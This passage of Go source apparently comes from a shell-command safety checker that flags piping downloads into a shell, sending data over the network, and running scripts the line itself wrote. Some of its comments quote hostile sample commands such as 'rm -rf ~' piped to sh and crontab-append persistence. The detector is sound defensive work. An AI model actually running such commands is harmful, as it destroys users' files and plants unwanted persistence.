		if inf.execStdin && i > 0 {
			name := stageName(st)
			if downloaded {
				s.note(s.c.rules.Defaults.DownloadExec, "pipes downloaded content into "+name)
			} else {
				s.note(s.c.rules.Defaults.PipeToShell, "pipes into "+name+", which executes its input")
			}
			if sh, ok := s.c.shells.get(name); ok && sh.Syntax == "bash" && s.pipedSome != nil {
				// echo 'rm -rf ~' | sh: the code is on the line.
				s.reparse(*s.pipedSome, "echo | "+name)
			}
		}
		if inf.sendsStdin && i > 0 {
			s.note(s.c.rules.Defaults.NetworkData, "pipes into "+stageName(st)+", which sends its input over the network")
		}
		downloaded = downloaded || inf.download
		all.download = all.download || inf.download
		all.execStdin = inf.execStdin
		all.sendsStdin = inf.sendsStdin
		all.listsAll = inf.listsAll
	}
	all.listsSecret = listedSecret
	return all
}

// teeFiles returns the files of a plain tee with literal words (nil when
// st is not one; tee alone has none, but an empty non-nil list), or an
// empty list for a cat of only its input (cat, cat -): each writes out
// what it reads. sponge FILE is taken as a tee: it writes FILE, though
// not its output, which only makes a later stage judged on text that
// does not reach it.
func teeFiles(st *syntax.Stmt) []string {
	c, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(c.Assigns) > 0 || len(c.Args) == 0 {
		return nil
	}
	files := []string{}
	cat := false
	for k, w := range c.Args {
		v, ok := litValue(w)
		switch {
		case !ok:
			return nil
		case k == 0:
			if v != "tee" && v != "cat" && v != "sponge" {
				return nil
			}
			cat = v == "cat"
		case cat && v == "-":
		case cat:
			return nil
		case v == "-a" || v == "--append":
		case strings.HasPrefix(v, "-"):
			return nil
		default:
			files = append(files, v)
		}
	}
	return files
}

// wroteScript records that the line writes text (appends it, when
// appends) to the file name: running that file later on the line runs
// it (see runsWritten).
func (s *state) wroteScript(name, text string, appends bool) {
	if name == "" {
		return
	}
	name = path.Clean(name)
	if s.scripts == nil {
		s.scripts = map[string]string{}
	}
	if appends {
		text = s.scripts[name] + text
	}
	s.scripts[name] = text
}

// writtenScript records the files st writes with > or >> when it writes
// text the line spells out (echo 'rm -rf ~' > a.sh).
func (s *state) writtenScript(st *syntax.Stmt) {
	if len(st.Redirs) == 0 {
		return
	}
	var outs []*syntax.Redirect
	plain := *st
	plain.Redirs = nil
	for _, r := range st.Redirs {
		switch {
		case r.N != nil && r.N.Value != "1":
			plain.Redirs = append(plain.Redirs, r)
		case r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.RdrClob || r.Op == syntax.RdrAll || r.Op == syntax.AppAll:
			outs = append(outs, r)
		default:
			plain.Redirs = append(plain.Redirs, r)
		}
	}
	if len(outs) == 0 {
		return
	}
	text, exact, _ := s.echoText(&plain)
	if !exact {
		return
	}
	for _, r := range outs {
		if v, ok := s.plainValue(r.Word); ok {
			s.wroteScript(v, text, r.Op == syntax.AppOut || r.Op == syntax.AppAll)
		}
	}
}

// runsWritten judges running the file named by w (bash a.sh, source
// a.sh, ./a.sh) when the line wrote its text: that text is run, and
// judged as shell code.
func (s *state) runsWritten(name string, w word, j *judgement) info {
	v, known := knownValue(w, 0)
	if !known || w.glob || s.scripts == nil {
		return info{}
	}
	text, ok := s.script(v)
	if !ok {
		return info{}
	}
	j.add(Safe, strings.TrimSpace(name+" runs "+w.s+", which the line wrote"))
	return s.reparse(text, strings.TrimSpace(name+" "+w.s))
}

// script returns the text the line wrote to the file named v (see
// scripts), counting it as expanded text (see expand): each run of the
// file reads all of it again.
func (s *state) script(v string) (string, bool) {
	text, ok := s.scripts[path.Clean(v)]
	if !ok || !s.expand(len(text)) {
		return "", false
	}
	return text, true
}

// echoText returns the text a command writes when the line spells it
// out: echo of known words (see plainValue; with -n, -e, -E), printf of a known
// format and arguments (see printfText), or cat of a here-string or of a
// here-document whose delimiter is quoted (cat <<< 'rm -rf ~'). Not when
// it has other redirections or assignments, or escapes or conversions it
// does not read (echo -e '\x72m', printf %d). A word of echo or printf
// that is not all known (echo "$(crontab -l)" LINE) is read by someValue,
// and exact is false: the text is what the line spells out among text it
// does not know.
func (s *state) echoText(st *syntax.Stmt) (text string, exact, ok bool) {
	c, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(c.Assigns) > 0 || len(c.Args) == 0 {
		return "", false, false
	}
	if n := c.Args[0].Lit(); n != "" && n != "echo" && n != "printf" && n != "cat" {
		return "", false, false // most commands: no work
	}
	args := make([]string, 0, len(c.Args))
	exact = true
	for i, w := range c.Args {
		v, ok := s.plainValue(w)
		if !ok && i > 0 {
			v, ok, exact = s.someValue(w), true, false
		}
		if !ok {
			return "", false, false
		}
		args = append(args, v)
	}
	switch {
	case args[0] == "cat" && len(st.Redirs) == 1 && (len(args) == 1 || len(args) == 2 && args[1] == "-"):
		text, ok = docLiteral(st.Redirs[0])
		return text, ok, ok
	case len(st.Redirs) > 0:
		return "", false, false
	case args[0] == "printf":
		text, ok = s.printedText(args[1:])
		return text, exact && ok, ok
	case args[0] != "echo":
		return "", false, false
	}
	newline, escapes := true, false
	k := 1
	for ; k < len(args) && len(args[k]) > 1 && strings.Trim(args[k], "-neE") == "" && args[k][0] == '-' && strings.Count(args[k], "-") == 1; k++ {
		for _, f := range args[k][1:] {
			switch f {
			case 'n':
				newline = false
			case 'e':
				escapes = true
			case 'E':
				escapes = false
			}
		}
	}
	if k < len(args) && strings.HasPrefix(args[k], "-") && len(args[k]) > 1 && strings.Trim(args[k][1:], "neE") == "" {
		return "", false, false
	}
	text = strings.Join(args[k:], " ")
	if escapes {
		if text, ok = textEscapes(text, true); !ok {
			return "", false, false
		}
	}
	if newline {
		text += "\n"
	}
	return text, exact, true
}

// groupText returns the text a subshell or block of commands writes that
// the line spells out (the echo, printf and cat of echoText among its
// commands, in order, in lists joined by && or || too), whether that is
// all it writes, and whether there is any: (crontab -l; echo LINE) writes
// LINE among the lines crontab -l writes.
func (s *state) groupText(st *syntax.Stmt) (text string, exact, ok bool) {
	if len(st.Redirs) > 0 {
		return "", false, false
	}
	var stmts []*syntax.Stmt
	switch c := st.Cmd.(type) {
	case *syntax.Subshell:
		stmts = c.Stmts
	case *syntax.Block:
		stmts = c.Stmts
	default:
		return "", false, false
	}
	return s.stmtsText(stmts)
}

// stmtsText is groupText of the statements of a group.
func (s *state) stmtsText(stmts []*syntax.Stmt) (text string, exact, ok bool) {
	var b strings.Builder
	exact = true
	var add func(st *syntax.Stmt)
	add = func(st *syntax.Stmt) {
		if bc, isList := st.Cmd.(*syntax.BinaryCmd); isList && (bc.Op == syntax.AndStmt || bc.Op == syntax.OrStmt) && len(st.Redirs) == 0 {
			exact = false // a part may not run
			add(bc.X)
			add(bc.Y)
			return
		}
		if t, all, known := s.echoText(st); known {
			b.WriteString(t)
			exact, ok = exact && all, true
			return
		}
		if t, all, known := s.groupText(st); known {
			b.WriteString(t)
			exact, ok = exact && all, true
			return
		}
		exact = false
	}
	for _, x := range stmts {
		add(x)
	}
	return b.String(), exact && ok, ok
}

// docLiteral returns the text of a here-string of a literal word, or of
// a here-document whose delimiter is quoted (so nothing in it expands).
func docLiteral(r *syntax.Redirect) (string, bool) {
	if r.N != nil && r.N.Value != "0" {
		return "", false
	}
	switch r.Op {
	case syntax.WordHdoc:
		v, ok := litValue(r.Word)
		return v + "\n", ok
	case syntax.Hdoc:
		if r.Word == nil || wordIsBare(r.Word) || r.Hdoc == nil {
			return "", false
		}
		var b strings.Builder
		for _, p := range r.Hdoc.Parts {
			l, ok := p.(*syntax.Lit)
			if !ok {
				return "", false
			}
			b.WriteString(l.Value)
		}
		return b.String(), true
	}
	return "", false
}

// textEscapes reads the escapes of echo -e (echo) or of printf's format
// as bash's builtins do: \a \b \e \E \f \n \r \t \v \\, \xHH (one or two
// hex digits), octal (echo -e: \0 and up to three digits; printf: up to
// three digits), printf's \" \' \?; before any other character the
// backslash is kept. \c, \u, \U, \x with no hex digit and a trailing
// backslash are not read (ok is false).
func textEscapes(v string, echo bool) (string, bool) {
	if !strings.Contains(v, `\`) {
		return v, true
	}
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		if v[i] != '\\' {
			b.WriteByte(v[i])
			continue
		}
		if i+1 >= len(v) {
			return "", false
		}
		i++
		c := v[i]
		if k := strings.IndexByte(`abeEfnrtv\`, c); k >= 0 {
			b.WriteByte("\a\b\x1b\x1b\f\n\r\t\v\\"[k])
			continue
		}
		digits, base, width := "01234567", 8, 3
		switch {
		case c == 'x':
			digits, base, width = "0123456789abcdefABCDEF", 16, 2
			i++
		case c == '0' && echo:
			i++
		case c >= '0' && c <= '7' && !echo:
		case (c == '"' || c == '\'' || c == '?') && !echo:
			b.WriteByte(c)
			continue
		case c == 'c' || c == 'u' || c == 'U':
			return "", false
		default:
			b.WriteByte('\\')
			b.WriteByte(c)
			continue
		}
		k := i
		for k < len(v) && k-i < width && strings.IndexByte(digits, v[k]) >= 0 {
			k++
		}
		if k == i && base == 16 {
			return "", false
		}
		n, _ := strconv.ParseUint("0"+v[i:k], base, 16)
		b.WriteByte(byte(n))
		i = k - 1
	}
	return b.String(), true
}

// plainValue returns the value of a word of literal text, quotes and
// simple expansions of variables the line set to known values ($HOME
// or ${HOME} at the start of it, which is ~), without walking anything:
// ok is false for any other expansion.
func (s *state) plainValue(w *syntax.Word) (string, bool) { return wordText(w, s.knownParam) }

// knownParam is the value of p for plainValue.
func (s *state) knownParam(part syntax.WordPart, atStart bool) (string, bool) {
	p, ok := part.(*syntax.ParamExp)
	if !ok || !simpleParam(p) {
		return "", false
	}
	if _, ok := s.vars[p.Param.Value]; ok {
		return s.known(p.Param.Value)
	}
	return "~", p.Param.Value == "HOME" && atStart
}

// someValue returns plainValue's text of w with each part not known
// ("$(crontab -l)", a variable the line did not set) read as a line
// break: the text the word spells out among text that is not known, as
// lines of their own (a crontab's, a shell's).
func (s *state) someValue(w *syntax.Word) string {
	v, _ := wordText(w, func(part syntax.WordPart, atStart bool) (string, bool) {
		if v, ok := s.knownParam(part, atStart); ok {
			return v, true
		}
		return "\n", true
	})
	return v
}

// wordText returns the text of a word of literal and quoted text, with
// the value of each other part from part (nil: none is read), or ok
// false when part gives none. atStart says no text comes before it.
func wordText(w *syntax.Word, part func(p syntax.WordPart, atStart bool) (string, bool)) (string, bool) {
	var b strings.Builder
	var add func(p syntax.WordPart, quoted bool) bool
	add = func(p syntax.WordPart, quoted bool) bool {
		switch p := p.(type) {
		case *syntax.Lit:
			if quoted {
				b.WriteString(unescapeDouble(p.Value))
			} else {
				v, _ := unescapeBare(p.Value)
				b.WriteString(v)
			}
		case *syntax.SglQuoted:
			if p.Dollar {
				b.WriteString(ansiC(p.Value))
			} else {
				b.WriteString(p.Value)
			}
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if !add(q, true) {
					return false
				}
			}
		default:
			if part == nil {
				return false
			}
			v, ok := part(p, b.Len() == 0)
			if !ok {
				return false
			}
			b.WriteString(v)
		}
		return true
	}
	for _, p := range w.Parts {
		if !add(p, false) {
			return "", false
		}
	}
	return b.String(), true
}

// printfText returns what printf FORMAT ARGS... writes when the format
// holds no conversion but %s and %% and no escape but those textEscapes
// reads: the format again for the arguments left, as printf does.
func printfText(args []string) (string, bool) {
	text, ok, _ := printfTextMax(args, math.MaxInt)
	return text, ok
}

// printedText is printfText counting the text as expanded text (see
// expand): a long format given many arguments is written again for
// each, and past the limit the line is over it and the text not known.
func (s *state) printedText(args []string) (string, bool) {
	left := maxExpandedText*s.c.rules.Limits.MaxLength - s.expanded
	text, ok, over := printfTextMax(args, left)
	if over {
		s.expand(left + 1)
		return "", false
	}
	if ok && !s.expand(len(text)) {
		return "", false
	}
	return text, ok
}

// printfTextMax is printfText, which stops, over, once the text is
// longer than limit bytes.
func printfTextMax(args []string, limit int) (text string, ok, over bool) {
	if len(args) == 0 || strings.HasPrefix(args[0], "-") {
		return "", false, false
	}
	format, rest := args[0], args[1:]
	var b strings.Builder
	for {
		if b.Len() > limit {
			return "", false, true
		}
		used := false
		for i := 0; i < len(format); i++ {
			if format[i] != '%' {
				b.WriteByte(format[i])
				continue
			}
			if i+1 >= len(format) {
				return "", false, false
			}
			i++
			switch format[i] {
			case '%':
				b.WriteByte('%')
			case 's':
				used = true
				if len(rest) > 0 {
					b.WriteString(rest[0])
					rest = rest[1:]
				}
			default:
				return "", false, false
			}
		}
		if len(rest) == 0 || !used {
			break
		}
	}
	if b.Len() > limit {
		return "", false, true
	}
	text, ok = textEscapes(b.String(), false)
	return text, ok, false
}

func stageName(st *syntax.Stmt) string {
	if c, ok := st.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 0 {
		if l := c.Args[0].Lit(); l != "" {
			return l
		}
	}
	return "a shell"
}

// reparse judges text that a shell will parse and run (bash -c, eval,
// here-documents fed to a shell), one level deeper.
func (s *state) reparse(text, via string) info {
	if s.stopped {
		return info{}
	}
	if s.depth+1 > s.c.rules.Limits.MaxDepth {
		s.overLimit(fmt.Sprintf("shell strings nested more than %d deep", s.c.rules.Limits.MaxDepth))
		return info{}
	}
	if len(text) > s.c.rules.Limits.MaxLength {
		s.overLimit(fmt.Sprintf("shell string longer than %d bytes", s.c.rules.Limits.MaxLength))
		return info{}
	}
	f, err := s.c.parse(text)
	if err != nil {
		s.invalid(fmt.Sprintf("cannot parse the string run by %s: %v", via, err))
		// The shell has run the lines before the error, or reads what
		// the parser does not (see readable).
		if text, f = s.c.readable(text, err); f == nil {
			return info{}
		}
	}
	oldSrc, oldVia, oldVars, oldExported, oldEnv, oldArrays := s.src, s.via, s.vars, s.exported, s.cmdEnv, s.arrays
	s.src, s.depth = text, s.depth+1
	s.via = append(s.via[:len(s.via):len(s.via)], via)
	if via == "eval" {
		// eval runs its code in this shell.
		s.copying(len(s.vars) + len(s.arrays) + len(s.exported))
		s.vars = cloneVars(s.vars)
		s.arrays = maps.Clone(s.arrays)
		s.exported = maps.Clone(s.exported)
	} else {
		// Any other string may run in a child shell (bash -c), which
		// knows only what is exported to it.
		s.vars = s.childVars()
		s.arrays = nil // not exported
		s.copying(len(s.vars))
		s.exported = make(map[string]bool, len(s.vars))
		for n := range s.vars {
			s.export(n)
		}
	}
	s.cmdEnv = nil
	s.collectFuncs(f.Stmts)
	inf := s.walkStmts(f.Stmts)
	s.src, s.depth, s.via, s.vars, s.exported, s.cmdEnv, s.arrays = oldSrc, s.depth-1, oldVia, oldVars, oldExported, oldEnv, oldArrays
	return inf
}

// litValue returns the value of a word made only of literal and quoted
// text (":", \:, ":", ':'), without walking anything.
func litValue(w *syntax.Word) (string, bool) { return wordText(w, nil) }
